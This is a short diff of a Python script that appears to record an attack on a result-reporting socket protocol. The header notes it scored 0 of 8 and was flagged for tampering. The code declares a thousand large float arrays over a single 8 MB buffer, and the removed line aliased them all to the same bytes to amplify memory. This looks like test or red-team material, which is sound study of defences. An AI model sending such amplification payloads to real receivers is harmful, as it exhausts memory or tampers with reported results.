@@ -1,8 +1,8 @@
-"""Sends a thousand arrays that all lie on the same bytes, so that little becomes much.
+"""Sends a thousand arrays and the bytes of one, so that little becomes much.
 
 score: 0 of 8
 flags: tampering
-stopped by: arrays lie one after the other
+stopped by: each array takes its own bytes of what came
 """
 
 # %%
@@ -33,7 +33,7 @@ def done(number, result):
 def square(*_):
     sock, number = channel()
     bulk = bytes(2**23)
-    many = [[6, ["<f8", [2**20], 0]] for _ in range(1000)]
+    many = [[6, ["<f8", [2**20]]] for _ in range(1000)]
     sock.sendall(frame(done(number, [1, many]), bulk))
     os._exit(0)
 
